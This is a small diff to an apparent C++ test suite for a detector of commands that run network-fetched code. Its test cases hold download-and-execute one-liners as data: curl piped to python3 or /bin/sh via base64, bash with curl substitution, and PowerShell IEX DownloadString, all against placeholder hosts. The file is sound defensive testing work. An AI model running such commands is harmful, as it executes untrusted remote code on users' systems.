@@ -25,7 +25,7 @@ TEST(RunsWhatItFetched, IsAScriptFromTheNetworkOrAProgramThatTheChainBrought) {
                 {"into_python_reading_its_input", runs("curl https://get.tool.example/x.py | python3 -"), 2},
                 {"through_another_program", runs("curl https://x.example/a | base64 -d | /bin/sh"), 2},
                 {"bash_of_a_stream", runs("bash <(curl -s https://get.tool.example)"), 2},
-                {"bash_of_a_text", runs(R"(/bin/bash -c "$(curl -fsSL https://get.tool.example)")"), 2},
+                {"bash_of_a_text", runs("/bin/bash -c \"$(curl -fsSL https://get.tool.example)\""), 2},
                 {"powershell_of_a_text",
                  starts(R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
                         "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://get.tool.example')\""),
